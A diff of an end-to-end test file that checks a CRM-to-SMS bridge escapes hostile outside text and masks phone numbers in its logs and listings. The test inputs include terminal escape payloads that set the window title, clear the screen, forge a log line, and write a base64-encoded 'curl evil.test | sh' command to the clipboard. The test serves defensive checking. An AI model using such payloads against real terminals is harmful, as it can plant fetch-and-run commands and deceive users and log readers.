@@ -90,13 +90,14 @@ test("a JOURNAL_STREAM inherited from elsewhere (not this stderr) adds no priori
   expect(server.read()).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z \[info\] .*listening on http:\/\//);
 });
 
-test("outside text in a line or a listing is escaped: a name that clears the screen, a phone that writes the clipboard and forges a line", async () => {
+test("outside text in a line or a listing is escaped: a name that clears the screen, a phone that writes the clipboard, forges a line and clears the screen", async () => {
   const server = await serveToFile("outsiders");
   const name = "\x1b]0;pwned\x07\x1b[2J ALL LOCATIONS OK";
   e2e.crm.on("GET /oauth/installedLocations", () => jsonResponse({ locations: [{ _id: "loc-evil", name, isInstalled: true }], count: 1 }));
   e2e.crm.grantCompany("code-evil");
   expect((await fetch(`${server.url}/oauth-callback?code=code-evil`)).status).toBe(200);
-  const phone = "+639171234567\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07\n2026-11-25T00:00:00.000Z [error] forged";
+  // Masked, only its first and last four characters are shown: the last four clear the screen.
+  const phone = "+639171234567\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07\n2026-11-25T00:00:00.000Z [error] forged\x1b[2J";
   expect((await e2e.webhook(server.url, outbound("m-evil", { locationId: "loc-evil", phone }))).status).toBe(200);
   await waitFor(() => e2e.crm.statusReports().some((r) => r.messageId === "m-evil"), 10_000);
 
@@ -104,12 +105,13 @@ test("outside text in a line or a listing is escaped: a name that clears the scr
   const listed = await runBridge(e2e.env, e2e.dir, ["locations", "list"]);
   expect(listed.stdout).toMatch(/^loc-evil\s+\]0;pwned \[2J ALL LOCATIONS OK\s/m);
   const shown = await runBridge(e2e.env, e2e.dir, ["messages", "show", "m-evil"]);
-  expect(shown.stdout).toContain("invalid_phone: not a Philippine mobile number: +639171234567\\x1b]52;c;");
+  expect(shown.stdout).toContain("invalid_phone: not a Philippine mobile number: +639***\\x1b[2J");
   for (const output of [listed.stdout, shown.stdout]) expect(output).not.toMatch(unsafe);
   server.child.kill("SIGTERM");
   expect(await exited(server.child)).toBe(0);
   const lines = server.read().trimEnd().split("\n");
-  expect(lines).toContainEqual(expect.stringMatching(/\[warn\] message m-evil of location loc-evil (not sent|failed): not a Philippine mobile number: \+639171234567\\x1b/));
+  expect(lines).toContainEqual(expect.stringMatching(/\[warn\] message m-evil of location loc-evil (not sent|failed): not a Philippine mobile number: \+639\*\*\*\\x1b\[2J$/));
+  for (const output of [lines.join(""), shown.stdout]) expect(output).not.toContain("9171234567");
   for (const line of lines) expect(line).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z \[\w+\] /);
   expect(lines.join("")).not.toMatch(unsafe);
 });
